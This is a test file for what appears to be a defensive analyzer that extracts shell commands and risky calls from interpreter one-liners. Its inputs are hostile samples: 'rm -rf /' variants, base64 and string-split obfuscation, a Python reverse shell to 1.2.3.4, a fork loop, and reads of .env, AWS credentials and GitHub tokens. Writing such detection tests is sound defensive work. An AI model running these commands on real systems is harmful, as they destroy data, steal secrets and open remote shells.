import { describe, expect, it } from "vitest";
import { analyzeInterpreterCode } from "./interpreter-code.js";
import { evaluateExpression } from "./literals.js";

describe("analyzeInterpreterCode", () => {
  it("finds shell calls with literal commands in every language", () => {
    expect(analyzeInterpreterCode("python", "import os; os.system('rm -rf /')").shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("python", "__import__('os').popen('id')").shell).toEqual(["id"]);
    expect(analyzeInterpreterCode("node", "require('child_process').execSync(\"ls\")").shell).toEqual(["ls"]);
    expect(analyzeInterpreterCode("perl", 'system "rm -rf /"').shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("perl", "`rm -rf /`").shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("ruby", "%x(rm -rf /)").shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("php", "shell_exec('rm -rf /');").shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("awk", 'BEGIN { system("rm -rf /") }').shell).toEqual(["rm -rf /"]);
  });

  it("finds shell calls through members looked up by a computed name", () => {
    expect(analyzeInterpreterCode("python", "getattr(__import__('os'),'sys'+'tem')('rm -rf ~')").shell).toEqual(["rm -rf ~"]);
    expect(analyzeInterpreterCode("node", "require('child_process')['exe'+'cSync']('rm -rf ~')").shell).toEqual(["rm -rf ~"]);
    expect(analyzeInterpreterCode("node", "console.log(\"require('child_process')['x']('y')\")").shell).toEqual([]);
    expect(analyzeInterpreterCode("python", "print(getattr(os, 'sep'))").shell).toEqual([]);
  });

  it("passes on known text a one-liner writes as the printf redirect that writes it", () => {
    expect(analyzeInterpreterCode("python", "open('.husky/pre-commit', 'w').write('exit 0')").shell).toEqual(["printf '%s' 'exit 0' > .husky/pre-commit"]);
    expect(analyzeInterpreterCode("node", "require('fs').appendFileSync('notes.txt', \"it's\")").shell).toEqual(["printf '%s' 'it'\\''s' >> notes.txt"]);
    expect(analyzeInterpreterCode("python", "open(p, 'w').write(data)").shell).toEqual([]);
  });

  it("turns list-form process calls into argv", () => {
    expect(analyzeInterpreterCode("python", "import subprocess; subprocess.run(['rm', '-rf', '/'])").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("node", "require('child_process').spawn('rm', ['-rf', '/'])").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("perl", 'system("rm", "-rf", "/")').commands).toEqual([["rm", "-rf", "/"]]);
  });

  it("reads os.spawn*, Deno.Command and Deno.run argv, and a perl pipe into a shell as unknown code", () => {
    expect(analyzeInterpreterCode("python", "import os;os.spawnlp(os.P_WAIT,'rm','rm','-rf','/')").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("python", "import os;os.spawnvp(os.P_WAIT,'rm',['rm','-rf','/'])").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("node", "new Deno.Command('rm',{args:['-rf','/']}).outputSync()").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("node", "Deno.run({cmd:['rm','-rf','/']})").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("perl", 'open(my $f, "|-", "sh"); print $f "x"').dynamicShell).toBe(true);
  });

  it("reads string variables, PHP variable functions, quote-like literals and Lua long strings", () => {
    expect(analyzeInterpreterCode("python", "import os;c='rm -rf /';os.system(c)").shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("php", '$f="sys"."tem"; $f("rm -rf /");').shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("perl", "system qw(rm -rf /)").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("lua", "os.execute[[rm -rf /]]").shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("awk", 'BEGIN{print "rm -rf /" | "sh"}').shell).toEqual(["rm -rf /"]);
  });

  it("maps destructive library calls to the commands they equal", () => {
    expect(analyzeInterpreterCode("python", "import shutil; shutil.rmtree('/')").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("node", "require('fs').rmSync('/', { recursive: true })").commands).toEqual([["rm", "-rf", "/"]]);
    expect(analyzeInterpreterCode("python", "import os; os.chmod('/etc/shadow', 0o666)").commands).toEqual([["chmod", "666", "/etc/shadow"]]);
    expect(analyzeInterpreterCode("python", "open('/etc/passwd', 'w').write('')").commands).toEqual([["tee", "/etc/passwd"]]);
    expect(analyzeInterpreterCode("python", "print(open('.env').read())").commands).toEqual([["cat", ".env"]]);
  });

  it("follows evaluated code, also base64-encoded", () => {
    expect(analyzeInterpreterCode("python", "exec(\"import os; os.system('id')\")").shell).toEqual(["id"]);
    const encoded = Buffer.from("import os; os.system('rm -rf /')").toString("base64");
    expect(analyzeInterpreterCode("python", `exec(__import__('base64').b64decode('${encoded}'))`).shell).toEqual(["rm -rf /"]);
    expect(analyzeInterpreterCode("python", "exec(urllib.request.urlopen('https://x').read())").networkCode).toBe(true);
  });

  it("reports reverse shells and fork loops, not ordinary socket or fork use", () => {
    expect(analyzeInterpreterCode("python", "import socket,os,pty;s=socket.socket();s.connect(('1.2.3.4',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')").hits[0]?.rule).toBe("net.reverse-shell");
    expect(analyzeInterpreterCode("python", "import socket; print(socket.gethostname())").hits).toEqual([]);
    expect(analyzeInterpreterCode("perl", "fork while fork").hits[0]?.rule).toBe("fork.interpreter-fork-loop");
    expect(analyzeInterpreterCode("python", "import os; pid = os.fork()").hits).toEqual([]);
  });

  it("does not treat interpolated strings or regex methods as commands", () => {
    expect(analyzeInterpreterCode("python", "import os; os.system(f'rm {path}')").dynamicShell).toBe(true);
    expect(analyzeInterpreterCode("node", "console.log(/rm/.exec('rm -rf /'))").shell).toEqual([]);
    expect(analyzeInterpreterCode("python", "print('rm -rf /')").shell).toEqual([]);
    expect(analyzeInterpreterCode("python", "print('rm -rf /')").printed).toBe("rm -rf /\n");
  });
});

describe("code compiled from a string in Lua, R and Julia", () => {
  it("reads the string as code, and a downloaded one as network code", () => {
    expect(analyzeInterpreterCode("lua", "load(\"os.execute('rm -rf /tmp/x')\")()").shell).toEqual(["rm -rf /tmp/x"]);
    expect(analyzeInterpreterCode("r", "eval(parse(text = \"system('ls')\"))").shell).toEqual(["ls"]);
    expect(analyzeInterpreterCode("julia", "eval(Meta.parse(read(download(\"https://x.example/a.jl\"), String)))").networkCode).toBe(true);
    expect(analyzeInterpreterCode("r", "source(url('https://x.example/a.R'))").networkCode).toBe(true);
    expect(analyzeInterpreterCode("julia", "println(eval(1 + 2))").dynamicShell).toBe(false);
    expect(analyzeInterpreterCode("r", "source('R/setup.R')").networkCode).toBe(false);
  });

  it("reads download calls as the curl -o that does the same", () => {
    expect(analyzeInterpreterCode("python", "from urllib.request import urlretrieve; urlretrieve('https://x.example/a.sh', '/tmp/a.sh')").downloads).toEqual([["curl", "-sSLo", "/tmp/a.sh", "https://x.example/a.sh"]]);
    expect(analyzeInterpreterCode("r", "download.file('https://x.example/a.R', destfile = 'a.R')").downloads).toEqual([["curl", "-sSLo", "a.R", "https://x.example/a.R"]]);
    expect(analyzeInterpreterCode("php", "copy('a.php', 'b.php');").downloads).toEqual([]);
  });
});

describe("evaluateExpression", () => {
  it("joins literals and reads lists", () => {
    expect(evaluateExpression("'rm ' + \"-rf /\"", "python")).toEqual({ kind: "string", value: "rm -rf /" });
    expect(evaluateExpression("['a', 'b']", "python")).toEqual({ kind: "list", values: ["a", "b"] });
    expect(evaluateExpression("path + '/x'", "python").kind).toBe("dynamic");
    expect(evaluateExpression('"$x"', "perl").kind).toBe("dynamic");
    expect(evaluateExpression("'$x'", "perl")).toEqual({ kind: "string", value: "$x" });
  });

  it("joins lists of literals the way each language's join does", () => {
    expect(evaluateExpression("join(' ', 'git', 'status')", "perl")).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression("' '.join(['git', 'status'])", "python")).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression("['git', 'status'].join(' ')", "node")).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression("' '.join(names)", "python").kind).toBe("dynamic");
    expect(evaluateExpression("$c . ' status'", "perl", new Map([["$c", "git"]]))).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression("implode(',', ['a', 'b'])", "php")).toEqual({ kind: "string", value: "a,b" });
  });

  it("fills in known variables where strings interpolate them, and Python's formatting", () => {
    expect(evaluateExpression('"$c status"', "perl", new Map([["$c", "git"]]))).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression('"#{c} status"', "ruby", new Map([["c", "git"]]))).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression("f'{c} status'", "python", new Map([["c", "git"]]))).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression("`${c} status`", "node", new Map([["c", "git"]]))).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression('"$d status"', "perl", new Map([["$c", "git"]])).kind).toBe("dynamic");
    expect(evaluateExpression("'{} {}'.format('git', 'status')", "python")).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression("'%s %s' % ('git', 'status')", "python")).toEqual({ kind: "string", value: "git status" });
    expect(evaluateExpression("'%s %s' % ('git',)", "python").kind).toBe("dynamic");
  });
});

describe("string literals are data", () => {
  it("does not find calls written inside strings", () => {
    expect(analyzeInterpreterCode("python", "print(\"os.system('rm -rf /')\")").shell).toEqual([]);
    expect(analyzeInterpreterCode("perl", "print 'system(\"rm -rf /\")'").shell).toEqual([]);
    expect(analyzeInterpreterCode("node", "console.log(`execSync('rm -rf /')`)").shell).toEqual([]);
  });

  it("reads calls made inside template literals' and interpolations' code", () => {
    expect(analyzeInterpreterCode("node", "console.log(`t: ${require('child_process').execSync('gh auth token')}`)").shell).toEqual(["gh auth token"]);
    expect(analyzeInterpreterCode("ruby", 'puts "t: #{%x(gh auth token)}"').shell).toEqual(["gh auth token"]);
  });

  it("reads the files R's readers name, and brickster's Databricks config", () => {
    expect(analyzeInterpreterCode("r", "cat(readLines('/home/ada/.aws/credentials'))").commands).toContainEqual(["cat", "/home/ada/.aws/credentials"]);
    expect(analyzeInterpreterCode("r", "x <- read.csv('data.csv')").commands).toContainEqual(["cat", "data.csv"]);
    expect(analyzeInterpreterCode("r", "cat(brickster::read_databrickscfg('token'))").commands.some((command) => command[0] === "cat" && command[1]?.endsWith("/.databrickscfg"))).toBe(true);
    expect(analyzeInterpreterCode("r", "print(nrow(mtcars))").commands).toEqual([]);
  });
});
